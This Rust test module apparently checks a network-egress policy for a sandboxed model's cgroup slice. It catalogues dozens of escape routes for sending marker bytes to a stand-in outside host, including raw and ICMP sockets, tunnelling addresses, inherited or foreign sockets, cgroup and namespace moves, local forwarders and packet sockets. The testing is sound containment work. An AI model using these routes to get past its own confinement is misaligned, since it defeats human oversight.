//! Bytes from the model's slice to where its policy does not allow.

use std::{io, net::SocketAddrV6};

use nix::sched::{CloneFlags, unshare};

use crate::{
    attacks,
    kernel_support::OTHER,
    sockets::{self, at, bind, connect, datagram, dial, raw, send, send_to, set, socket, speak, tcp, udp},
    uring,
    world::{Gain, Network, Scene, forked},
};

const ABROAD: &str = "192.0.2.2";
const ABROAD_V6: &str = "2001:db8:f::2";

attacks! {
    out_tcp_v4: |s| s.inside(|| dial(at(ABROAD, 443), &s.marker));
    out_tcp_v6: |s| s.inside(|| dial(at(ABROAD_V6, 443), &s.marker));
    out_tcp_v4_mapped: |s| s.inside(|| dial(at("::ffff:192.0.2.2", 443), &s.marker));
    out_udp_v4: |s| s.inside(|| datagram(at(ABROAD, 53), &s.marker));
    out_udp_v6: |s| s.inside(|| datagram(at(ABROAD_V6, 53), &s.marker));
    out_udp_v4_mapped: |s| s.inside(|| datagram(at("::ffff:192.0.2.2", 53), &s.marker));
    out_udp_connected: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        connect(&fd, at(ABROAD, 53))?;
        send(&fd, &s.marker)
    });
    out_udp_reconnected: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        connect(&fd, at("198.51.100.2", 443))?;
        connect(&fd, at(ABROAD, 53))?;
        send(&fd, &s.marker)
    });
    out_udp_sendmmsg: |s| s.inside(|| {
        let to = [at("198.51.100.2", 443), at(ABROAD, 53)];
        sockets::send_many(&udp(to[0])?, &s.marker, &to)
    });
    out_udp_connected_to_an_allowed_host_sent_elsewhere: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        connect(&fd, at("198.51.100.2", 443))?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_udp_family_unspecified: |s| s.inside(|| {
        sockets::send_to_unspecified_family(&udp(at(ABROAD, 53))?, &s.marker, at(ABROAD, 53))
    });
    out_udp_fragments: |s| s.inside(|| {
        datagram(at(ABROAD, 53), &[s.marker.as_slice(), &[b'.'; 4000]].concat())
    });
    out_udp_corked: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        sockets::send_to_with(&fd, &s.marker, at(ABROAD, 53), libc::MSG_MORE)?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_udp_segmented: |s| s.inside(|| {
        const UDP_SEGMENT: i32 = 103;
        let fd = udp(at(ABROAD, 53))?;
        set(&fd, libc::IPPROTO_UDP, UDP_SEGMENT, 100)?;
        send_to(&fd, &s.marker.repeat(20), at(ABROAD, 53))
    });
    out_tcp_fast_open: |s| s.inside(|| {
        let to = at(ABROAD, 443);
        sockets::send_to_with(&tcp(to)?, &s.marker, to, libc::MSG_FASTOPEN)
    });
    out_mptcp: |s| s.inside(|| {
        let fd = socket(libc::AF_INET, libc::SOCK_STREAM, sockets::MPTCP)?;
        speak(&fd, at(ABROAD, 443), &s.marker)
    });
    out_io_uring: |s| s.inside(|| {
        uring::speak(&tcp(at(ABROAD, 443))?, at(ABROAD, 443), &s.marker)?;
        Ok(Gain::Through)
    });
    out_io_uring_udp: |s| s.inside(|| {
        uring::speak(&udp(at(ABROAD, 53))?, at(ABROAD, 53), &s.marker)?;
        Ok(Gain::Sent)
    });
    out_tcp_urgent: |s| s.inside(|| {
        let fd = tcp(at(ABROAD, 443))?;
        connect(&fd, at(ABROAD, 443))?;
        sockets::send_with(&fd, &[&s.marker[..], b"!"].concat(), libc::MSG_OOB)
    });
    out_tcp_reconnect_after_unspec: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 443))?;
        connect(&fd, at("198.51.100.2", 443))?;
        sockets::disconnect(&fd)?;
        connect(&fd, at(ABROAD, 53))?;
        send(&fd, &s.marker)
    });
    out_udp_lite: |s| s.inside(|| {
        let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, sockets::UDP_LITE)?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_udp_lite_to_an_allowed_host: |s| s.inside(|| {
        // The region is right and the protocol is not; the control goes abroad, where it can be heard.
        let to = if s.guarded { "198.51.100.2" } else { ABROAD };
        let fd = socket(libc::AF_INET6, libc::SOCK_DGRAM, sockets::UDP_LITE)?;
        let mapped = format!("::ffff:{to}");
        let sent = send_to(&fd, &s.marker, at(&mapped, 53));
        if s.guarded { sent.map(|_| Gain::Through) } else { sent }
    });
    out_raw_experiment: |s| s.inside(|| {
        send_to(&raw(at(ABROAD, 0), sockets::EXPERIMENT)?, &s.marker, at(ABROAD, 0))
    });
    out_raw_experiment_v6: |s| s.inside(|| {
        send_to(&raw(at(ABROAD_V6, 0), sockets::EXPERIMENT)?, &s.marker, at(ABROAD_V6, 0))
    });
    out_raw_connected: |s| s.inside(|| {
        let fd = raw(at(ABROAD, 0), sockets::EXPERIMENT)?;
        connect(&fd, at(ABROAD, 0))?;
        send(&fd, &s.marker)
    });
    out_sctp: |s| s.inside(|| send_to(&raw(at(ABROAD, 0), sockets::SCTP)?, &s.marker, at(ABROAD, 0)));
    out_gre: |s| s.inside(|| send_to(&raw(at(ABROAD, 0), 47)?, &s.marker, at(ABROAD, 0)));
    out_ip_in_ip: |s| s.inside(|| send_to(&raw(at(ABROAD, 0), 4)?, &s.marker, at(ABROAD, 0)));
    out_icmp_echo: |s| s.inside(|| {
        let echo = [&[8, 0, 0, 0, 0, 1, 0, 1], s.marker.as_slice()].concat();
        let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
        send_to(&fd, &echo, at(ABROAD, 0))
    });
    out_icmp_raw: |s| s.inside(|| {
        let echo = [&[8, 0, 0, 0, 0, 1, 0, 1], s.marker.as_slice()].concat();
        send_to(&raw(at(ABROAD, 0), libc::IPPROTO_ICMP)?, &echo, at(ABROAD, 0))
    });
    out_icmp_v6: |s| s.inside(|| {
        let echo = [&[128, 0, 0, 0, 0, 1, 0, 1], s.marker.as_slice()].concat();
        let fd = socket(libc::AF_INET6, libc::SOCK_DGRAM, libc::IPPROTO_ICMPV6)?;
        send_to(&fd, &echo, at(ABROAD_V6, 0))
    });
    out_icmp_connected: |s| s.inside(|| {
        let echo = [&[8, 0, 0, 0, 0, 1, 0, 1], s.marker.as_slice()].concat();
        let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
        connect(&fd, at(ABROAD, 0))?;
        send(&fd, &echo)
    });

    out_nat64: |s| s.inside(|| datagram(at("64:ff9b::192.0.2.2", 53), &s.marker));
    out_nat64_local_use: |s| s.inside(|| datagram(at("64:ff9b:1::192.0.2.2", 53), &s.marker));
    out_6to4: |s| s.inside(|| datagram(at("2002:c000:202::1", 53), &s.marker));
    out_teredo: |s| s.inside(|| datagram(at("2001:0:c633:6402::3fff:fdfd", 53), &s.marker));
    out_isatap: |s| s.inside(|| datagram(at("2001:db8:a:5efe:0:5efe:192.0.2.2", 53), &s.marker));
    out_multicast: |s| s.inside(|| datagram(at("233.252.0.1", 53), &s.marker));
    out_multicast_v6: |s| s.inside(|| to_link(s, "ff02::1"));
    out_link_local_v6: |s| s.inside(|| to_link(s, "fe80::1234"));
    out_broadcast: |s| s.inside(|| {
        let to = at("192.0.2.255", 53);
        let fd = udp(to)?;
        set(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
        send_to(&fd, &s.marker, to)
    });
    out_limited_broadcast: |s| s.inside(|| {
        let to = at("255.255.255.255", 53);
        let fd = udp(to)?;
        set(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
        device(&fd)?;
        send_to(&fd, &s.marker, to)
    });

    out_mark: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        set(&fd, libc::SOL_SOCKET, libc::SO_MARK, 0xb00)?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_mark_in_a_message: |s| s.inside(|| {
        let mark = (libc::SOL_SOCKET, libc::SO_MARK, 0xb00_u32.to_ne_bytes());
        sockets::send_with_control(&udp(at(ABROAD, 53))?, &s.marker, at(ABROAD, 53), (mark.0, mark.1, &mark.2))
    });
    out_bind_to_device: |s| s.inside(|| {
        let fd = tcp(at(ABROAD, 443))?;
        device(&fd)?;
        speak(&fd, at(ABROAD, 443), &s.marker)
    });
    out_ip_transparent: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        set(&fd, libc::IPPROTO_IP, libc::IP_TRANSPARENT, 1)?;
        bind(&fd, at("198.51.100.2", 0))?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_ip_freebind: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        set(&fd, libc::IPPROTO_IP, libc::IP_FREEBIND, 1)?;
        bind(&fd, at("203.0.113.1", 0))?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });
    out_source_in_a_message: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        let index = i32::try_from(nix::net::if_::if_nametoindex("foreign")?).expect("small");
        let information = [index.to_ne_bytes(), [192, 0, 2, 1], [0; 4]].concat();
        sockets::send_with_control(
            &fd, &s.marker, at(ABROAD, 53), (libc::IPPROTO_IP, libc::IP_PKTINFO, &information))
    });
    out_dont_route: |s| s.inside(|| {
        sockets::send_to_with(&udp(at(ABROAD, 53))?, &s.marker, at(ABROAD, 53), libc::MSG_DONTROUTE)
    });
    out_source_port_of_the_model: |s| s.inside(|| {
        let fd = udp(at(ABROAD, 53))?;
        bind(&fd, at("192.0.2.1", if s.guarded { s.port() } else { s.port() + 7 }))?;
        send_to(&fd, &s.marker, at(ABROAD, 53))
    });

    out_connection_from_before: |s| s.inside(|| send(&s.before().out_tcp, &s.marker));
    out_udp_connected_before: |s| s.inside(|| send(&s.before().out_udp, &s.marker));
    out_sendfile_on_a_connection_from_before: |s| {
        s.inside(|| sockets::send_file(&s.before().out_file, &s.marker))
    };
    out_splice_on_a_connection_from_before: |s| {
        s.inside(|| sockets::splice(&s.before().out_splice, &s.marker))
    };
    out_connection_from_before_used_outside: |s| s.outsider(|| send(&s.before().out_tcp, &s.marker));
    out_foreign_socket_connected_inside: |s| {
        let fd = s.world.born(OTHER, || tcp(at(ABROAD, 443)))?;
        s.inside(|| speak(&fd, at(ABROAD, 443), &s.marker))
    };
    out_foreign_udp_socket_used_inside: |s| {
        let fd = s.world.born(OTHER, || udp(at(ABROAD, 53)))?;
        s.inside(|| send_to(&fd, &s.marker, at(ABROAD, 53)))
    };
    out_connection_of_an_accomplice: |s| {
        let fd = s.world.born(OTHER, || {
            let fd = tcp(at(ABROAD, 443))?;
            connect(&fd, at(ABROAD, 443))?;
            Ok(fd)
        })?;
        s.inside(|| send(&fd, &s.marker))
    };
    out_raw_socket_of_an_accomplice: |s| {
        let fd = s.world.born(OTHER, || raw(at(ABROAD, 0), sockets::EXPERIMENT))?;
        s.inside(|| send_to(&fd, &s.marker, at(ABROAD, 0)))
    };
    out_own_socket_after_leaving_the_slice: |s| {
        let fd = s.world.born(s.slice(), || udp(at(ABROAD, 53)))?;
        s.outsider(|| send_to(&fd, &s.marker, at(ABROAD, 53)))
    };
    out_cgroup_move_out_of_the_slice: |s| s.inside(|| {
        std::fs::write(s.cgroup(OTHER).join("cgroup.procs"), "0")?;
        dial(at(ABROAD, 443), &s.marker)
    });
    out_deeply_nested_cgroup: |s| {
        let deep = format!("{}/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r", s.slice());
        std::fs::create_dir_all(s.cgroup(&deep))?;
        s.world.perform(&deep, Network::Host, || dial(at(ABROAD, 443), &s.marker))
    };
    out_new_cgroup_namespace: |s| s.inside(|| {
        unshare(CloneFlags::CLONE_NEWCGROUP | CloneFlags::CLONE_NEWNS)?;
        dial(at(ABROAD, 443), &s.marker)
    });
    out_another_network: |s| {
        s.world.perform(s.slice(), Network::Abroad, || own_address(s))
    };
    out_new_user_and_network_namespace: |s| s.inside(|| {
        // The network is entered as root of a user namespace; what is behind it is the slice's all the same.
        nix::sched::setns(
            std::fs::File::open(format!("/proc/{}/ns/net", s.foreign_pid()))?, CloneFlags::CLONE_NEWNET)?;
        unshare(CloneFlags::CLONE_NEWUSER)?;
        own_address(s)
    });
    out_container: |s| s.inside(|| {
        unshare(CloneFlags::CLONE_NEWPID | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWIPC)?;
        forked(|| dial(at(ABROAD, 443), &s.marker))
    });
    out_orphan: |s| s.inside(|| {
        nix::unistd::setsid()?;
        forked(|| forked(|| datagram(at(ABROAD, 53), &s.marker)))
    });
    out_unprivileged: |s| s.inside(|| {
        nix::unistd::setuid(65_534.into())?;
        datagram(at(ABROAD, 53), &s.marker)
    });
    out_resolver_of_an_allowed_region: |s| s.inside(|| ask(s, 53, false));
    out_resolver_of_an_allowed_region_tcp: |s| s.inside(|| ask(s, 53, true));
    out_resolver_of_an_allowed_region_tls: |s| s.inside(|| ask(s, 853, true));
    out_resolver_of_an_allowed_region_quic: |s| s.inside(|| ask(s, 853, false));
    out_local_resolver: |s| by_forwarder(s, "127.0.0.53", libc::SOCK_DGRAM);
    out_local_forwarder_tcp: |s| by_forwarder(s, "127.0.0.1", libc::SOCK_STREAM);
    out_local_forwarder_on_an_own_address: |s| by_forwarder(s, "192.0.2.1", libc::SOCK_STREAM);
    out_local_forwarder_v6: |s| by_forwarder(s, "::1", libc::SOCK_STREAM);
    out_local_forwarder_unspecified: |s| by_forwarder(s, "0.0.0.0", libc::SOCK_STREAM);
    out_the_twin_as_forwarder: |s| s.inside(|| {
        // Into a listener of another slice of this host, which would carry it abroad.
        let fd = tcp(at("127.0.0.1", 8443))?;
        connect(&fd, at("127.0.0.1", 8443))?;
        Ok(Gain::Through)
    });
    out_unix_socket_forwarder: |s| {
        let (ours, theirs) = std::os::unix::net::UnixDatagram::pair()?;
        let helper = s.world.start(OTHER, Network::Host, || {
            let mut bytes = [0; 64];
            let length = theirs.recv(&mut bytes)?;
            datagram(at(ABROAD, 53), &bytes[..length])
        });
        s.inside(|| {
            ours.send(&s.marker)?;
            Ok(Gain::Sent)
        })?;
        helper.end()
    };
    out_answer_to_a_caller_from_abroad: |s| {
        let port = s.side() + 5;
        let server = s.world.start(s.slice(), Network::Host, || {
            let fd = sockets::listener(at("::", port))?;
            let caller = sockets::accept(&fd)?;
            send(&caller, &s.marker)
        });
        std::thread::sleep(std::time::Duration::from_millis(30));
        let called = s.world.perform("..", Network::Abroad, || {
            let fd = tcp(at("192.0.2.1", port))?;
            connect(&fd, at("192.0.2.1", port))?;
            sockets::receive(&fd)?;
            Ok(Gain::Through)
        });
        let _ = server.end();
        called
    };
    out_af_packet: |s| s.inside(|| {
        let fd = socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0)?;
        let index = i32::try_from(nix::net::if_::if_nametoindex("foreign")?).expect("small");
        let frame = crate::packets::udp_v4([192, 0, 2, 1], [192, 0, 2, 2], 4000, 53, &s.marker);
        crate::packets::send_frame(&fd, index, [0xff; 6], &frame)
    });
}

fn to_link(s: &Scene<'_>, ip: &str) -> io::Result<Gain> {
    let scope = nix::net::if_::if_nametoindex("foreign")?;
    let ip = if ip == "fe80::1234" {
        crate::packets::link_local_abroad(s.foreign_pid())?
    } else {
        ip.parse().expect("an address")
    };
    datagram(SocketAddrV6::new(ip, 53, 0, scope).into(), &s.marker)
}

fn device(fd: &std::os::fd::OwnedFd) -> io::Result<()> {
    sockets::set_bytes(fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"foreign\0")
}

/// From inside the other host's network, to an address that is that host's own.
fn own_address(s: &Scene<'_>) -> io::Result<Gain> {
    let fd = tcp(at(ABROAD, 443))?;
    speak(&fd, at(ABROAD, 443), &s.marker)
}

/// A question to a resolver whose region is right, but that nobody named. The control goes abroad, where it can be heard.
fn ask(s: &Scene<'_>, port: u16, stream: bool) -> io::Result<Gain> {
    if !s.guarded {
        return if stream { dial(at(ABROAD, 443), &s.marker) } else { datagram(at(ABROAD, 53), &s.marker) };
    }
    let to = at("198.51.100.2", port);
    if stream {
        // Nobody listens there: the kernel's refusal differs from the host's.
        return match connect(&tcp(to)?, to) {
            Err(error) if error.raw_os_error() == Some(libc::EPERM) => Err(error),
            _ => Ok(Gain::Through),
        };
    }
    datagram(to, &s.marker).map(|_| Gain::Through)
}

/// A daemon of this host takes what the model says, and would carry it abroad under its own name.
fn by_forwarder(s: &Scene<'_>, ip: &str, kind: i32) -> io::Result<Gain> {
    let port = 3128;
    let (told, mut tell) = io::pipe()?;
    let helper = s.world.start(OTHER, Network::Host, || {
        let address = at(ip, port);
        let fd = socket(sockets::family(address), kind, 0)?;
        set(&fd, libc::SOL_SOCKET, libc::SO_REUSEADDR, 1)?;
        bind(&fd, address)?;
        if kind == libc::SOCK_STREAM {
            sockets::listen(&fd)?;
        }
        io::Write::write_all(&mut tell, b"!")?;
        let heard = if kind == libc::SOCK_STREAM {
            sockets::receive(&sockets::accept(&fd)?)?
        } else {
            sockets::receive(&fd)?
        };
        datagram(at(ABROAD, 53), &heard)
    });
    crate::world::ready(told)?;
    let said = s.inside(|| {
        let to = at(ip, port);
        if kind == libc::SOCK_STREAM { dial(to, &s.marker) } else { datagram(to, &s.marker) }
    });
    helper.end().and(said)
}
